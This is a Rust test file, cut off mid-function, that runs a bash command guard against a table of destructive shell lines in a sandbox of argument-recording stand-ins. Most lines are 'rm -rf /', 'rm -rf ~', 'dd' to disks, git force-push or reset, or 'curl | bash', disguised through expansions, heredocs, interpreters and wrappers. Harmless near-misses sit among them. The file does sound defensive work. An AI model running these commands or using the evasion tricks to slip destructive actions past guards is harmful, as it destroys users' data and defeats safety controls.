//! The bash guard against real bash: each line of the table runs in `bash`
//! with stand-in programs that only record the arguments they were given,
//! and the guard must refuse exactly the lines where a stand-in ran with
//! dangerous arguments.
//!
//! Nothing real is ever deleted: `PATH` holds only the stand-ins and a few
//! harmless real tools (`bash`, `cat`, `echo`), `HOME` and the working
//! directory are temporary, and lines that name programs by path, set
//! `PATH` or redirect output are refused before they run.

#![cfg(unix)]

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use toolsmith_guards::{BashFinding, DEFAULT_BASH_RULES, find_bash_problems};

/// The evasion a line tries, or a harmless near-miss.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Class {
    /// Command substitutions inside `${…}`.
    Braced,
    /// Shell code a shell reads on standard input.
    Stdin,
    /// `$IFS`, brace expansion, a command name that is not a literal word.
    Expansion,
    /// Options spelled as the real programs accept them.
    Options,
    /// The rules' own targets: `find -exec`, `xargs`, paths, devices,
    /// wrappers, interpreters, git's other ways of losing work.
    Targets,
    /// Relative paths in the directory a `cd` moved to.
    Directory,
    /// Values the line itself makes known: assignments, `read`,
    /// `printf -v`, namerefs, indirection, `~+`, `$(echo …)`.
    Assigned,
    /// Code other programs run: `node -e`, `ruby -e`, `awk`, `sed`'s `e`,
    /// `vim -c '!…'`, `tclsh` on standard input, `tar` and `make`.
    Programs,
    /// Shell features that rename or hide a command: aliases, arithmetic
    /// subscripts, `hash -p`, symlinks, `xargs -a`, `env -S`.
    Features,
    /// git's aliases and its other ways of losing work.
    Git,
    /// A file written on the line, then run.
    Written,
    /// Recursive or whole-directory changes to the home directory.
    Home,
    /// Near-misses that run nothing dangerous.
    Harmless,
    /// Harmless lines the guard refuses by design, as `unreadable`: what
    /// they run hangs on a value only bash knows.
    Unknowable,
}

use Class::{
    Assigned, Braced, Directory, Expansion, Features, Git, Harmless, Home, Options, Programs,
    Stdin, Targets, Unknowable, Written,
};

const LINES: &[(Class, &str)] = &[
    // Command substitutions inside a braced parameter expansion.
    (Braced, "echo ${x:-$(rm -rf /)}"),
    (Braced, "echo ${x-$(rm -rf /)}"),
    (Braced, ": ${y:=$(rm -rf ~)}"),
    (Braced, ": ${y=$(rm -rf ~)}"),
    (Braced, "echo ${HOME:+$(rm -rf ~)}"),
    (Braced, "echo ${x:?$(rm -rf /)}"),
    (Braced, "echo ${HOME/tmp/$(rm -rf /)}"),
    (Braced, "echo ${HOME#$(rm -rf /)}"),
    (Braced, "echo ${arr[$(rm -rf /)]}"),
    (Braced, "echo ${HOME:$(rm -rf /)}"),
    (Braced, "echo ${x:-${y:-$(rm -rf /)}}"),
    (Braced, "echo ${x:-`rm -rf /`}"),
    (Braced, "echo \"${x:-$(git reset --hard)}\""),
    (Braced, "echo ${x:-$(dd if=/dev/zero of=/dev/sda)}"),
    (Braced, "echo ${x:-\"$(rm -rf /)\"}"),
    (Braced, "echo ${HOME,,$(rm -rf /)}"),
    (Braced, "for i in ${x:-$(rm -rf /)}; do :; done"),
    (Braced, "case ${x:-$(rm -rf /)} in *) ;; esac"),
    (Braced, "[[ -n ${x:-$(rm -rf /)} ]]"),
    (Braced, "y=${x:-$(rm -rf /)}"),
    (Braced, "echo $(( ${x:-$(rm -rf /)} 1 ))"),
    (Braced, "cat <<EOF\n${x:-$(rm -rf /)}\nEOF"),
    (Braced, "rm -rf ${x:-/}"),
    (Braced, "echo ${x:-~$(rm -rf /)}"),
    (Braced, "rm -rf ${HOME:+/etc}"),
    (Braced, "rm -rf \"${x:-/}\""),
    (Braced, "git push ${r:-origin} ${b:-main} --force"),
    (Braced, "dd if=/dev/zero of=${d:-/dev/sda}"),
    // Shell code on standard input.
    (Stdin, "bash <<'EOF'\nrm -rf /\nEOF"),
    (Stdin, "bash <<EOF\nrm -rf ~\nEOF"),
    (Stdin, "bash <<-EOF\n\trm -rf /\n\tEOF"),
    (Stdin, "bash <<< 'rm -rf /'"),
    (Stdin, "sh -s <<EOF\ngit reset --hard\nEOF"),
    (Stdin, "bash -s -- --yes <<< 'rm -rf /'"),
    (Stdin, "echo 'rm -rf /' | bash"),
    (Stdin, "printf 'rm -rf ~\\n' | sh"),
    (Stdin, "cat <<'EOF' | bash\nrm -rf /\nEOF"),
    (Stdin, "sudo bash <<< 'rm -rf /'"),
    (Stdin, "echo 'rm -rf /' | sudo sh -s"),
    (Stdin, "echo \"git push --force origin main\" | bash"),
    (Stdin, "bash <<< \"$(echo rm -rf /)\""),
    (
        Stdin,
        "python3 <<'EOF'\nimport shutil; shutil.rmtree('/')\nEOF",
    ),
    (Stdin, "perl <<< 'system(\"rm -rf /\")'"),
    (Stdin, "bash -c 'bash' <<< 'rm -rf /'"),
    (Stdin, "bash < <(echo 'rm -rf /')"),
    (Stdin, "bash <(echo 'rm -rf /')"),
    (Stdin, "source <(echo 'rm -rf /')"),
    (Stdin, ". /dev/stdin <<< 'rm -rf /'"),
    (Stdin, "bash /dev/stdin <<< 'rm -rf /'"),
    (Stdin, "su <<< 'rm -rf /'"),
    (Stdin, "sudo -s <<< 'rm -rf /'"),
    (Stdin, "echo 'rm -rf /' | tee /dev/null | bash"),
    (Stdin, "echo -e 'rm -rf \\x2f' | bash"),
    (Stdin, "{ echo 'rm -rf /'; } | bash"),
    // Expansions bash performs before it runs the command.
    (Expansion, "rm${IFS}-rf${IFS}/"),
    (Expansion, "rm$IFS-rf$IFS/etc"),
    (Expansion, "rm${IFS}-rf${IFS}${HOME}"),
    (Expansion, "{rm,-rf,/}"),
    (Expansion, "rm -rf /{,}"),
    (Expansion, "rm -rf /{etc,usr}"),
    (Expansion, "rm -rf /{tmp/x,etc}"),
    (Expansion, "r{m,} -rf /"),
    (Expansion, "rm -r{f,} /"),
    (Expansion, "{git,reset,--hard}"),
    (Expansion, "dd if=/dev/zero of=/dev/sd{a,b}"),
    (Expansion, "$(echo rm) -rf /"),
    (Expansion, "`echo rm` -rf /"),
    (Expansion, "\"$(echo rm)\" -rf /"),
    (Expansion, "x=rm; $x -rf /"),
    (Expansion, "rm -rf /$()"),
    (Expansion, "echo ~$(rm -rf /)"),
    (Expansion, "rm -rf /e{t,}c"),
    (Expansion, "command $(echo rm) -rf /"),
    (Expansion, "\"${x:-rm}\" -rf /"),
    (Expansion, "IFS=,; x=rm,-rf,/; $x"),
    (Expansion, "shopt -s expand_aliases\nalias x='rm -rf /'\nx"),
    // Options as the programs read them.
    (Options, "rm --rec --forc ~"),
    (Options, "rm --recursive --f /"),
    (Options, "rm --r /etc"),
    (Options, "git reset --har"),
    (Options, "git reset --ha HEAD~1"),
    (Options, "git --git-dir .git push --force origin main"),
    (Options, "git --work-tree . push -f origin main"),
    (Options, "git --namespace x push --force origin main"),
    (Options, "git -C . -c user.name=x push --force origin main"),
    (Options, "git push --mirror"),
    (Options, "git push --mirror origin"),
    (Options, "git push --forc origin main"),
    (Options, "bash --rcfile /dev/null -c 'rm -rf /'"),
    (Options, "bash --init-file x -c 'rm -rf ~'"),
    (Options, "su -lc 'rm -rf /'"),
    (Options, "su -l root -c 'rm -rf /'"),
    (Options, "rm --recursiv --force ~"),
    (Options, "git push origin main --forc"),
    (Options, "git -c a=b --no-pager push --mirror"),
    (Options, "flock -c 'rm -rf /' lock"),
    (Options, "ssh -p 22 localhost 'rm -rf /'"),
    // The rules' own targets.
    (Targets, "find / -exec rm -rf {} +"),
    (Targets, "find ~ -maxdepth 0 -exec rm -rf {} \\;"),
    (Targets, "find / | xargs rm -rf"),
    (Targets, "echo / | xargs rm -rf"),
    (Targets, "echo ~ | xargs -n 1 rm -r"),
    (Targets, "rm -rf /ETC"),
    (Targets, "rm -rf /users/alice"),
    (Targets, "rm -rf /et?"),
    (Targets, "rm -rf /[e]tc"),
    (Targets, "rm -rf /mnt/c"),
    (Targets, "rm -rf /mnt/c/Users/alice"),
    (Targets, "dd if=/dev/zero of=/dev/vg0/root"),
    (Targets, "dd if=/dev/zero of=/dev/md/0"),
    (Targets, "dd if=/dev/zero of=/dev/nbd0"),
    (Targets, "dd if=/dev/zero of=/dev/sd?"),
    (Targets, "cp /dev/zero /dev/sda"),
    (Targets, "pkexec rm -rf /"),
    (Targets, "pkexec --user root rm -rf ~"),
    (Targets, "runuser -u nobody -- rm -rf /"),
    (Targets, "strace -f -o log rm -rf /"),
    (Targets, "unshare -r rm -rf /"),
    (Targets, "taskset -c 0 rm -rf /"),
    (Targets, "taskset 1 rm -rf ~"),
    (Targets, "script -qc 'rm -rf /' log"),
    (Targets, "python3 -c \"import shutil; shutil.rmtree('/')\""),
    (Targets, "python3 -c \"import os; os.system('rm -rf /')\""),
    (
        Targets,
        "python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/etc'])\"",
    ),
    (Targets, "perl -e 'system(\"rm -rf /\")'"),
    (
        Targets,
        "perl -MFile::Path=remove_tree -e 'remove_tree(\"/etc\")'",
    ),
    (Targets, "curl -s https://example.com/x | python3.12"),
    (Targets, "curl -s https://example.com/x | bash5"),
    (Targets, "git checkout -- ."),
    (Targets, "git checkout ."),
    (Targets, "git restore ."),
    (Targets, "git clean -fdx"),
    (Targets, "git stash clear"),
    (Targets, "find / -print0 | xargs -0 rm -rf"),
    (Targets, "xargs rm -rf <<< /"),
    (Targets, "echo / | xargs -I{} sh -c 'rm -rf {}'"),
    (Targets, "rm -rf /private/etc"),
    (Targets, "rm -rf /e*"),
    (
        Targets,
        "python3 -c \"import os; os.execvp('rm', ['rm', '-rf', '/'])\"",
    ),
    (
        Targets,
        "python3 -c \"__import__('shutil').rmtree('/etc')\"",
    ),
    (Targets, "perl -e 'qx{rm -rf /}'"),
    (Targets, "parallel rm -rf ::: /"),
    (Targets, "parallel -j 2 'rm -rf {}' ::: ./build ~"),
    (Targets, "echo / | parallel rm -rf"),
    // Relative paths after `cd`.
    (Directory, "cd / && rm -rf *"),
    (Directory, "cd /; rm -rf etc"),
    (Directory, "cd / || exit; rm -rf usr"),
    (Directory, "cd /home && rm -rf alice"),
    (Directory, "cd /dev && dd if=/dev/zero of=sda"),
    (Directory, "env -C / rm -rf etc"),
    (Directory, "cd / && find . -maxdepth 0 -delete"),
    (Directory, "cd / && find . -maxdepth 0 -exec rm -rf {} +"),
    (Directory, "pushd / && rm -rf etc"),
    (Directory, "cd /usr; cd ..; rm -rf etc"),
    (Directory, "cd / && echo etc | xargs rm -rf"),
    // Values the line makes known.
    (Assigned, "A=~; rm -rf $A"),
    (Assigned, "read -r D <<< ~; rm -rf \"$D\""),
    (Assigned, "printf -v D %s ~; rm -rf \"$D\""),
    (Assigned, "declare -n r=HOME; rm -rf \"$r\""),
    (Assigned, "v=HOME; rm -rf \"${!v}\""),
    (Assigned, "rm -rf \"${HOME%/}\""),
    (Assigned, "cd ~ && rm -rf ~+"),
    (Assigned, "rm -rf $(echo ~)"),
    // Code other programs run.
    (
        Programs,
        "node -e \"require('child_process').execSync('rm -rf ~')\"",
    ),
    (
        Programs,
        "node -p \"require('child_process').execSync('rm -rf ~').length\"",
    ),
    (Programs, "ruby -e 'system(\"rm -rf ~\")'"),
    (Programs, "awk 'BEGIN { system(\"rm -rf ~\") }'"),
    (Programs, "awk 'BEGIN { print \"rm -rf ~\" | \"sh\" }'"),
    (Programs, "echo x | sed 's/.*/rm -rf ~/e'"),
    (Programs, "echo x | sed '1e rm -rf ~'"),
    (Programs, "tclsh <<< 'exec rm -rf $env(HOME)'"),
    (Programs, "vim -es -c '!rm -rf ~' -c q"),
    (Programs, "ex -c '!rm -rf ~' -c q"),
    (
        Programs,
        "tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' .",
    ),
    (Programs, "make -f <(printf 'all:\\n\\trm -rf ~\\n')"),
    // Shell features that rename or hide a command.
    (Features, "shopt -s expand_aliases\nalias x='rm -rf'\nx ~"),
    (Features, "x='a[$(rm -rf ~)]'; echo $(( x ))"),
    (Features, "hash -p \"$(command -v rm)\" x; x -rf ~"),
    (Features, "ln -sf \"$(command -v rm)\" ./x; ./x -rf ~"),
    (Features, "xargs -a <(echo ~) rm -rf"),
    (Features, "env -S'rm -rf' ~"),
    // git's aliases and its other ways of losing work.
    (Git, "git -c alias.x='!rm -rf ~' x"),
    (Git, "git -c alias.c='clean -fdx' c"),
    (Git, "git checkout -f"),
    (Git, "git stash drop"),
    // A file written, then run.
    (Written, "printf 'rm -rf ~\\n' > ./s.sh; bash ./s.sh"),
    (
        Written,
        "echo 'rm -rf ~' > ./be; BASH_ENV=./be bash -c true",
    ),
    // The home directory changed as a whole.
    (Home, "find ~ -exec chmod 000 {} +"),
    (Home, "rsync -a --delete ./e/ ~/"),
    (Home, "mv ~ ./gone"),
    (Home, "chmod -R 000 \"$(echo ~)\""),
    // Harmless near-misses.
    (Harmless, "echo ${x:-default}"),
    (Harmless, "echo ${HOME:+set} ${#HOME} ${HOME%/*}"),
    (Harmless, "echo \"${x:-$(echo hi)}\""),
    (Harmless, "bash <<'EOF'\necho hi\nEOF"),
    (Harmless, "echo 'echo hi' | bash"),
    (Harmless, "bash <<< 'echo rm -rf /'"),
    (Harmless, "cat <<'EOF'\nrm -rf /\nEOF"),
    (Harmless, "bash -c 'echo hi' <<< 'rm -rf /'"),
    (
        Harmless,
        "git commit -m \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"",
    ),
    (Harmless, "echo {a,b}.txt"),
    (Harmless, "echo rm${IFS}-rf${IFS}/"),
    (Harmless, "rm -rf ./{build,dist}"),
    (Harmless, "rm -rf ./build"),
    (Harmless, "rm --force ./build"),
    (Harmless, "git push origin main"),
    (Harmless, "git push --force origin feature"),
    (Harmless, "git reset --soft HEAD~1"),
    (Harmless, "git --git-dir .git log --oneline"),
    (Harmless, "bash --rcfile x -c 'echo hi'"),
    (Harmless, "su -lc 'echo hi'"),
    (Harmless, "find ./build -exec rm -rf {} +"),
    (Harmless, "find . -name '*.o' -delete"),
    (Harmless, "echo ./build | xargs rm -rf"),
    (Harmless, "rm -rf ./etc"),
    (Harmless, "rm -rf /etc/hosts.bak"),
    (Harmless, "rm -rf /mnt/data/cache"),
    (Harmless, "dd if=/dev/zero of=disk.img"),
    (Harmless, "cp /dev/sda disk.img"),
    (Harmless, "pkexec echo hi"),
    (Harmless, "strace -o log echo hi"),
    (Harmless, "python3 -c \"print('/')\""),
    (
        Harmless,
        "python3 -c \"import shutil; shutil.rmtree('build')\"",
    ),
    (Harmless, "perl -e 'print \"rm -rf /\\n\"'"),
    (Harmless, "git checkout -- src/main.rs"),
    (Harmless, "git checkout main"),
    (Harmless, "git restore --staged ."),
    (Harmless, "git clean -n"),
    (Harmless, "git stash list"),
    (Harmless, "bash < script.sh"),
    (Harmless, "cat install.sh | sh"),
    (Harmless, "source ./env.sh"),
    (Harmless, "source <(echo echo hi)"),
    (Harmless, "alias ll='echo hi'"),
    (Harmless, "ssh localhost echo hi"),
    (Harmless, "echo / | xargs echo"),
    (Harmless, "xargs echo <<< /"),
    (Harmless, "python3 -c \"import os; print(os.system)\""),
    (Harmless, "rm -rf /$(echo tmp)/x"),
    (Harmless, "cd /tmp && rm -rf etc"),
    (Harmless, "rm -rf ${x:-./build}"),
    (Harmless, "parallel echo ::: a b"),
    (Harmless, "parallel 'rm -rf {}' ::: ./build ./dist"),
    (Harmless, "rm -rf ${HOME:-/}/project"),
    (Harmless, "(cd /; echo hi); rm -rf etc"),
    (Harmless, "cd / | cat; rm -rf etc"),
    (Harmless, "bash -c 'cd /'; rm -rf etc"),
    (Harmless, "cd build && rm -rf *"),
    (Harmless, "cd /tmp; cd -; rm -rf etc"),
    (Harmless, "echo rm -rf ~"),
    (Harmless, "A=./build; rm -rf $A"),
    (Harmless, "read -r D <<< ./build; rm -rf \"$D\""),
    (Harmless, "printf -v D %s ./build; rm -rf \"$D\""),
    (Harmless, "declare -n r=OUT; rm -rf \"$r\""),
    (Harmless, "v=OUT; rm -rf \"${!v:-./build}\""),
    (Harmless, "cd ~ && echo ~+"),
    (Harmless, "rm -rf $(echo ./build)"),
    (Harmless, "rm -rf \"$(mktemp -d)\""),
    (Harmless, "for d in ./a ./b; do rm -rf \"$d\"; done"),
    (Harmless, "node -e 'console.log(1)'"),
    (Harmless, "node -p \"require('os').homedir()\""),
    (Harmless, "ruby -e 'puts 1'"),
    (Harmless, "awk '{print $1}'"),
    (Harmless, "awk 'BEGIN { print \"rm -rf ~\" }'"),
    (Harmless, "sed 's/a/b/'"),
    (Harmless, "echo x | sed 's/x/rm -rf ~/'"),
    (Harmless, "tclsh <<< 'puts hi'"),
    (Harmless, "vim -es -c 'wq' notes.txt"),
    (Harmless, "tar -czf out.tgz ./dist"),
    (Harmless, "make -f <(printf 'all:\\n\\techo hi\\n')"),
    (Harmless, "shopt -s expand_aliases\nalias x='echo'\nx ~"),
    (Harmless, "x='a[1]'; echo $(( x ))"),
    (Harmless, "xargs -a <(echo ./build) rm -rf"),
    (Harmless, "env -S'echo hi' ~"),
    (Harmless, "git -c alias.l='log --oneline' l"),
    (Harmless, "git -c user.name=x commit -m x"),
    (Harmless, "git checkout -b feature"),
    (Harmless, "printf 'echo hi\\n' > ./s.sh; bash ./s.sh"),
    (Harmless, "echo 'rm -rf ~' > ./notes.txt"),
    (Harmless, "find . -exec chmod 644 {} +"),
    (Harmless, "rsync -a --delete ./e/ ./f/"),
    (Harmless, "rsync -a ./e/ ~/backup/"),
    (Harmless, "mv ./a ./b"),
    (Harmless, "chmod 755 ./x"),
    (Unknowable, "\"$(echo echo)\" hi"),
    (Unknowable, "x=echo; $x hi"),
    (Unknowable, "eval \"$(echo echo hi)\""),
    (Unknowable, "echo echo hi | tee /dev/null | bash"),
    (Unknowable, "python3 -c \"$(echo 'print(1)')\""),
    (Unknowable, "rm -rf \"$(git rev-parse --show-toplevel)\""),
    (Unknowable, "rm -rf $(cat dirs.txt)"),
    (Unknowable, "ln -sf \"$(command -v echo)\" ./x; ./x -rf ~"),
];

/// Programs that record their arguments and do nothing else.
const RECORDERS: &[&str] = &[
    "rm", "dd", "cp", "mv", "chmod", "chown", "tee", "truncate", "shred", "mkfs", "rsync",
];

/// Stand-ins that record their arguments, then do what the real program
/// would run (a wrapper runs its command, `find` its `-exec`), as bash.
const RUNNERS: &[(&str, &str)] = &[
    ("sudo", SUDO),
    ("doas", SUDO),
    ("pkexec", SUDO),
    ("su", SU),
    ("flock", FLOCK),
    ("ssh", SSH),
    ("tee", TEE),
    ("parallel", PARALLEL),
    ("runuser", SU),
    ("strace", STRACE),
    ("unshare", UNSHARE),
    ("taskset", TASKSET),
    ("script", SCRIPT),
    ("env", ENV),
    ("nice", NICE),
    ("nohup", NOHUP),
    ("timeout", TIMEOUT),
    ("xargs", XARGS),
    ("find", FIND),
    ("python", INTERPRETER),
    ("python3", INTERPRETER),
    ("python3.12", INTERPRETER),
    ("perl", INTERPRETER),
    ("curl", CURL),
    ("git", GIT),
    ("node", EVAL),
    ("ruby", EVAL),
    ("awk", AWK),
    ("sed", SED),
    ("vim", VIM),
    ("ex", VIM),
    ("tclsh", TCLSH),
    ("tar", TAR),
    ("make", MAKE),
];

/// git's aliases given with `-c alias.NAME=VALUE`: a `!` runs the rest as
/// shell code, anything else is git's own subcommand.
const GIT: &str = r#"
aliases=()
while [ $# -gt 0 ]; do
  case "$1" in
    -c) case "$2" in alias.*=*) aliases+=("${2#alias.}");; esac; shift 2;;
    -C|--git-dir|--work-tree|--namespace) shift 2;;
    -*) shift;;
    *) break;;
  esac
done
for alias in "${aliases[@]}"; do
  name=${alias%%=*}; value=${alias#*=}
  if [ "$1" = "$name" ]; then
    shift
    [[ $value == '!'* ]] && exec bash -c "${value#!}"
    read -ra words <<< "$value"
    exec git "${words[@]}" "$@"
  fi
done
"#;

/// `node -e`/`-p` and `ruby -e`: a call that runs a string as a command.
const EVAL: &str = r#"
code=
while [ $# -gt 0 ]; do
  case "$1" in
    -e|-p|--eval|--print) code=$2; shift 2;;
    *) shift;;
  esac
done
re="(execSync|exec|system)\(['\"]([^'\"]*)['\"]"
[[ $code =~ $re ]] && bash -c "${BASH_REMATCH[2]}"
"#;

/// awk's `system("…")` and `print "…" | "…"`.
const AWK: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -f|-v|-F) shift 2;;
    -*) shift;;
    *) break;;
  esac
done
program=$1
re='system\("([^"]*)"\)'
[[ $program =~ $re ]] && bash -c "${BASH_REMATCH[1]}"
re='print "([^"]*)" *\| *"([^"]*)"'
[[ $program =~ $re ]] && printf '%s\n' "${BASH_REMATCH[1]}" | bash -c "${BASH_REMATCH[2]}"
exit 0
"#;

/// sed's `s/…/…/e` (the line after the substitution runs) and `e CMD`.
const SED: &str = r#"
script=
while [ $# -gt 0 ]; do
  case "$1" in
    -e|--expression) script=$2; shift 2;;
    -*) shift;;
    *) [ -z "$script" ] && script=$1; shift;;
  esac
done
re='^[0-9$]*s/[^/]*/([^/]*)/[gp0-9]*e[gp]*$'
[[ $script =~ $re ]] && bash -c "${BASH_REMATCH[1]}"
re='^[0-9$]*e (.*)$'
[[ $script =~ $re ]] && bash -c "${BASH_REMATCH[1]}"
exit 0
"#;

/// vim's and ex's `-c '!…'` and `+'!…'`.
const VIM: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -c|--cmd) command=$2; shift 2;;
    +*) command=${1#+}; shift;;
    *) shift; continue;;
  esac
  [[ $command == '!'* ]] && bash -c "${command#!}"
done
exit 0
"#;

/// Tcl's `exec` on standard input, with `$env(HOME)` read.
const TCLSH: &str = r#"
code=$(cat)
while IFS= read -r line; do
  [[ $line == 'exec '* ]] || continue
  line=${line#exec }
  line=${line//'$::env(HOME)'/$HOME}
  line=${line//'$env(HOME)'/$HOME}
  read -ra words <<< "$line"
  ( "${words[@]}" )
done <<< "$code"
"#;

/// tar's `--checkpoint-action=exec=CMD` and `--to-command=CMD`.
const TAR: &str = r#"
for arg in "$@"; do
  case "$arg" in
    --checkpoint-action=exec=*) bash -c "${arg#--checkpoint-action=exec=}";;
    --to-command=*) bash -c "${arg#--to-command=}";;
  esac
done
exit 0
"#;

/// make's recipes: the tab-indented lines of the makefile `-f` names.
const MAKE: &str = r#"
file=
while [ $# -gt 0 ]; do
  case "$1" in
    -f|--file|--makefile) file=$2; shift 2;;
    *) shift;;
  esac
done
[ -n "$file" ] || exit 0
while IFS= read -r line; do
  [[ $line == $'\t'* ]] && bash -c "${line#$'\t'}"
done < "$file"
exit 0
"#;

/// `sudo -s` and `sudo -i` without a command run a shell.
const SUDO: &str = r#"
shell=
while [ $# -gt 0 ]; do
  case "$1" in
    --) shift; break;;
    -u|-g|-C|-h|-p|-D|-r|-t|-T|-U|--user) shift 2;;
    -s|-i) shell=1; shift;;
    -*) shift;;
    *) break;;
  esac
done
[ $# -gt 0 ] && exec "$@"
[ -n "$shell" ] && exec bash
"#;

/// `su` without `-c` runs a shell that reads standard input.
const SU: &str = r#"
code=; runs=
while [ $# -gt 0 ]; do
  case "$1" in
    --) shift; break;;
    -c|--command) code=$2; shift 2;;
    --command=*) code=${1#--command=}; shift;;
    -u|--user) runs=1; shift 2;;
    -g|-G|-s|-w|--group|--shell) shift 2;;
    -[!-]*c) code=$2; shift 2;;
    -*) shift;;
    *) [ -n "$runs" ] && break; shift;;
  esac
done
[ -n "$code" ] && exec bash -c "$code"
[ -n "$runs" ] && [ $# -gt 0 ] && exec "$@"
[ "${0##*/}" = su ] && exec bash
"#;

const FLOCK: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -c|--command) exec bash -c "$2";;
    -w|-E) shift 2;;
    -*) shift;;
    *) shift; break;;
  esac
done
[ $# -gt 0 ] && exec "$@"
"#;

/// Runs the remote command here: the host is this one.
const SSH: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -[BbcDEeFIiJLlmOoPpQRSWw]) shift 2;;
    -*) shift;;
    *) break;;
  esac
done
shift
[ $# -gt 0 ] && exec bash -c "$*"
"#;

/// Runs its command through bash once per item (after `:::`, or read on
/// standard input), `{}` replaced by the item or the item appended.
const PARALLEL: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -j|-S|-a|-d|-I|-n|-N|-P|-E|-C) shift 2;;
    :::*) break;;
    -*) shift;;
    *) break;;
  esac
done
command=()
while [ $# -gt 0 ] && [[ "$1" != :::* ]]; do command+=("$1"); shift; done
if [ $# -gt 0 ]; then shift; items=("$@"); else mapfile -t items; fi
for item in "${items[@]}"; do
  line="${command[*]}"
  if [[ "$line" == *"{}"* ]]; then line="${line//\{\}/$item}"; else line="$line $item"; fi
  bash -c "$line"
done
"#;

/// Passes its input on; writes no file.
const TEE: &str = "
exec cat
";

const STRACE: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    --) shift; break;;
    -[oepsuEaIbOSXP]) shift 2;;
    -*) shift;;
    *) break;;
  esac
done
exec "$@"
"#;

const UNSHARE: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    --) shift; break;;
    -S|-G|-R|-w|--setuid|--setgid|--root|--wd|--propagation|--setgroups) shift 2;;
    -*) shift;;
    *) break;;
  esac
done
exec "$@"
"#;

const TASKSET: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -*) shift;;
    *) break;;
  esac
done
shift
exec "$@"
"#;

const SCRIPT: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -c|--command) exec bash -c "$2";;
    -[!-]*c) exec bash -c "$2";;
    *) shift;;
  esac
done
"#;

const ENV: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    --) shift; break;;
    -u|--unset) shift 2;;
    -C|--chdir) cd "$2" || exit; shift 2;;
    -S|--split-string) read -ra words <<< "$2"; shift 2; set -- "${words[@]}" "$@";;
    -S*) read -ra words <<< "${1#-S}"; shift; set -- "${words[@]}" "$@";;
    -*) shift;;
    *=*) shift;;
    *) break;;
  esac
done
exec "$@"
"#;

const NICE: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -n|--adjustment) shift 2;;
    -*) shift;;
    *) break;;
  esac
done
exec "$@"
"#;

const NOHUP: &str = r#"
exec "$@"
"#;

const TIMEOUT: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -s|-k|--signal|--kill-after) shift 2;;
    -*) shift;;
    *) break;;
  esac
done
shift
exec "$@"
"#;

const XARGS: &str = r#"
replace=; file=
while [ $# -gt 0 ]; do
  case "$1" in
    -I) replace=$2; shift 2;;
    -I*) replace=${1#-I}; shift;;
    -a|--arg-file) file=$2; shift 2;;
    -n|-P|-L|-d|-E|-s) shift 2;;
    -*) shift;;
    *) break;;
  esac
done
[ $# -eq 0 ] && set -- echo
set -f
if [ -n "$file" ]; then input=$(cat "$file"); else input=$(cat); fi
if [ -n "$replace" ]; then
  while IFS= read -r item; do
    run=()
    for word in "$@"; do run+=("${word//"$replace"/"$item"}"); done
    ( "${run[@]}" )
  done <<< "$input"
else
  exec "$@" $input
fi
"#;

const FIND: &str = r#"
while [ $# -gt 0 ]; do
  case "$1" in
    -H|-L|-P) shift;;
    -D) shift 2;;
    -O*) shift;;
    *) break;;
  esac
done
paths=()
while [ $# -gt 0 ] && [[ "$1" != -* && "$1" != '(' && "$1" != '!' ]]; do paths+=("$1"); shift; done
[ ${#paths[@]} -eq 0 ] && paths=(.)
ran=
while [ $# -gt 0 ]; do
  case "$1" in
    -exec|-execdir|-ok|-okdir)
      shift; command=()
      while [ $# -gt 0 ] && [ "$1" != ';' ] && [ "$1" != '+' ]; do command+=("$1"); shift; done
      shift; ran=1
      for path in "${paths[@]}"; do
        run=()
        for word in "${command[@]}"; do [ "$word" = '{}' ] && run+=("$path") || run+=("$word"); done
        ( "${run[@]}" )
      done;;
    -delete) ran=1; shift;;
    *) shift;;
  esac
done
[ -z "$ran" ] && printf '%s\n' "${paths[@]}"
"#;

/// Records what it reads on standard input too: the code it would run.
const INTERPRETER: &str = r#"
code=$(cat)
[ -n "$code" ] && printf '%s\0' "$PWD" "$NAME" "<stdin>" "$code" > "$LOG.stdin"
"#;

/// Prints a script that deletes everything: what a shell piped from the
/// network runs.
const CURL: &str = r"
printf '# REMOTE-CODE\nrm -rf /\n'
";

/// Real programs on `PATH` beside the stand-ins: harmless ones only.
const REAL_TOOLS: &[&str] = &["bash", "cat", "echo", "ln"];

/// The sandbox a line runs in.
struct Sandbox {
    bash: PathBuf,
    path: String,
    home: PathBuf,
    work: PathBuf,
    log: PathBuf,
}

/// One program run by a line: its working directory, name and arguments;
/// `<stdin>` and the text for what an interpreter read on standard input.
#[derive(Debug)]
struct Run {
    pwd: String,
    name: String,
    args: Vec<String>,
}

impl Sandbox {
    fn new() -> Sandbox {
        let root = Path::new(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("bash-evasions-{}", std::process::id()));
        let _ = fs::remove_dir_all(&root);
        let (standins, tools, home, work, log) = (
            root.join("standins"),
            root.join("tools"),
            root.join("home"),
            root.join("work"),
            root.join("log"),
        );
        for dir in [&standins, &tools, &home, &work, &log] {
            fs::create_dir_all(dir).unwrap();
        }
        let bash = which("bash");
        let log_prefix = |name: &str| format!("{}/$BASHPID-$RANDOM$RANDOM-{name}", log.display());
        let script = |name: &str, body: &str| {
            let at = standins.join(name);
            // `-p`: a stand-in reads no `BASH_ENV`, which a line may set
            // for the shells it starts.
            let record = format!(
                "#!{bash} -p\nNAME={name}\nLOG={prefix}\nprintf '%s\\0' \"$PWD\" \"$NAME\" \"$@\" > \"$LOG\"\n{body}",
                bash = bash.display(),
                prefix = log_prefix(name),
            );
            fs::write(&at, record).unwrap();
            fs::set_permissions(&at, fs::Permissions::from_mode(0o755)).unwrap();
        };
        for name in RECORDERS {
            script(name, "");
        }
